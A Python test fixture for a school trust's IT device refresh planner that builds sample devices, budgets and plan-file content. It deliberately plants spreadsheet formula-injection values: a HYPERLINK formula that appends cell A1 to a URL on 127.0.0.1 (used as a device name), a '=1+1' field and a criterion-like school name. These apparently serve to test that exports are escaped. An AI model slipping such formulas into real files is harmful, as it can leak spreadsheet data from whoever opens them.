"""A small trust with everything that a file of a plan can hold, and plans of it: what the files are tried on."""

from __future__ import annotations

import random
from dataclasses import replace
from datetime import UTC, date, datetime

from collector.plan_files import Content
from collector.plan_files.quotes import within
from collector.refresh.plan import plan
from collector.refresh.policies import Override, Policies
from collector.refresh.values import Action, Decision, Estate, Kit, Made, Need, Row, Spending, Terms

TODAY = date(2026, 11, 22)
MADE = datetime(2026, 11, 22, 9, 30, tzinfo=UTC)
HOSTILE = '=HYPERLINK("http://127.0.0.1/?"&A1,"+1")'
SCHOOLS = {
    "s1": "Ashgrove Primary",
    "s2": "Ysgol Tŷ Gwyn",
    "s3": ">0 *Cedar?",  # what a criterion would take for its own
}
_KINDS = (("laptop", "HP", "EliteBook 840"), ("desktop", "Dell", "OptiPlex 7010"), ("switch", "HPE", "2530-48G"),
          ("server", "Dell", "PowerEdge T340"), ("laptop", "Acer", "Chromebook 314"))  # fmt: skip


def kit(number: int, chance: random.Random) -> Kit:
    """A device, by chance: of known age, of an age between two days, of none."""
    device_class, maker, model = _KINDS[number % len(_KINDS)]
    day = date(2018 + chance.randrange(9), 1 + chance.randrange(12), 1 + chance.randrange(28))
    day = min(day, TODAY)
    one = Kit(f"d{number}", f"PC-{number}", sorted(SCHOOLS)[number % 3], device_class, maker, model)
    if number % 7 == 0:
        return replace(one, suite="Room 4")
    if number % 3 == 0:
        made = Made(date(day.year - 1, 1, 1), date(day.year, 1, 1), min(date(day.year + 1, 6, 1), TODAY))
        return replace(one, made=made, name=HOSTILE if number == 3 else one.name)
    return replace(one, bought=day, condition="disk failing" if number % 11 == 0 else "")


def estate(devices: int = 60, years: int = 5) -> Estate:
    """The trust: schools that begin in September and in April, needs, lines, decisions."""
    chance = random.Random(7)  # noqa: S311 - the same estate each time
    needs = (
        Need("n1", "s1", "laptop trolley", "laptop", 16, date(2027, 10, 1), "Reading for all", 38_333),
        Need("n2", "s2", "server", "server", 1, date(2028, 5, 1), "=1+1"),
    )
    spending = (
        Spending("l1", "", "MIS licence", "administration", 1_234_567, date(2025, 2, 15), inflation=325),
        Spending("l2", "s2", "Broadband", "connectivity", 480_050, date(2026, 9, 10), date(2029, 1, 31), inflation=250),
        Spending("l3", "s3", "Cabling", "connectivity", 2_000_000, date(2027, 6, 1), yearly=False, capital=True,
                 aim="Wireless everywhere"),
        Spending("l4", "s1", "IT support", "support", 900_000, date(2024, 9, 1), capital=True),
    )  # fmt: skip
    decisions = (
        Decision(Action.EXTEND, "spare parts in store", "d4", until=date(2029, 8, 31)),
        Decision(Action.RETIRE, "room closes", "d8", until=date(2027, 8, 31)),
        Decision(Action.REPLACE, "building work", "", "s2", "Room 4", year=2028),
    )
    terms = {"": Terms(9, 0), "s2": Terms(4, 2_000)}
    made = tuple(kit(number, chance) for number in range(1, devices + 1))
    return Estate(TODAY, 2026, years, made, needs, spending, decisions, terms)


def policies(laptop: int = 52_500) -> Policies:
    """The table's, with one price and one inflation of the trust's own."""
    own = (("cost", laptop), ("inflation", 1_050))
    return Policies([Override(name, value, device_class="laptop") for name, value in own])


def content(of: Estate | None = None, said: Policies | None = None, rows: tuple[Row, ...] | None = None) -> Content:
    """What a file of it is made of."""
    of, said = of or estate(), said or policies()
    found = plan(of, said).rows if rows is None else rows
    caps = {("", year): 40_000_00 for year in range(of.first, of.first + of.years - 1)}
    remarks = (
        "4 devices are not in it: they are gone.",
        "Of Ysgol Tŷ Gwyn no walk was made since May.",
    )
    return Content("Oakfield Trust", "the plain plan", MADE, of, said, found, SCHOOLS, frozenset({"s2"}), caps, remarks)


def squeezed(whole: Content) -> Content:
    """The same within a budget, as if one had been: some devices a year later, some left undone."""
    due = [row for row in whole.rows if row.action is Action.REPLACE and row.year is not None and not row.again]
    words = "Left undone: the cap of 2026/27 is spent on what is worse."
    chosen: dict[str, tuple[int | None, str]] = {row.row_id: (None, words) for row in due[::7]}
    for row in due[1::5]:
        if row.year is not None and row.year < whole.last:
            chosen[row.row_id] = (row.year + 1, "A year later: the cap of 2026/27 is spent.")
    return replace(whole, rows=within(whole, chosen), title="£40,000 a year", gap=0.004)
